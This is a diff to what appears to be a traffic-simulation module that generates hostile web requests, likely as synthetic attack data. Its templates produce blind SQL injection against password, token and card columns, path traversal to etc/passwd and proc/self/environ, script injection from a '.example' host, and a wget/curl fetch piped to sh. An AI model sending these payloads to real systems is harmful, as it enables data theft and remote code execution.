@@ -56,7 +56,14 @@ _COLUMNS = ("name", "password", "email", "token", "card", "created")
 
 
 def strike(
-    site: Site, rng: random.Random, kind: Kind, attacker: Host, victim: Host, requests: int, begin_s: float, end_s: float
+    site: Site,
+    rng: random.Random,
+    kind: Kind,
+    attacker: Host,
+    victim: Host,
+    requests: int,
+    begin_s: float,
+    end_s: float,
 ) -> Behaviour:
     """Send so many hostile requests of a kind, evenly over the span."""
     name = "web attack" if kind == "mixed" else f"web attack by {kind}"
@@ -102,9 +109,11 @@ def hostile_target(rng: random.Random, kind: Kind) -> str:
             number, column = rng.randrange(9_999), rng.choice(_COLUMNS)
             return path + quote(f"{number}' AND ASCII(SUBSTRING({column},{number % 20},1))>{number % 128}-- -")
         case "traversal":
-            return path + "../" * rng.randrange(3, 9) + rng.choice(("etc/passwd", "windows/win.ini", "proc/self/environ"))
+            return (
+                path + "../" * rng.randrange(3, 9) + rng.choice(("etc/passwd", "windows/win.ini", "proc/self/environ"))
+            )
         case "scripting":
-            return path + quote(f"\"><script src=//{word(rng, 2)}.example/{rng.randrange(99)}.js></script>")
+            return path + quote(f'"><script src=//{word(rng, 2)}.example/{rng.randrange(99)}.js></script>')
     return path + quote(f"{rng.randrange(99)};{rng.choice(('wget', 'curl'))} http://{word(rng, 2)}.example/x|sh")
 
 
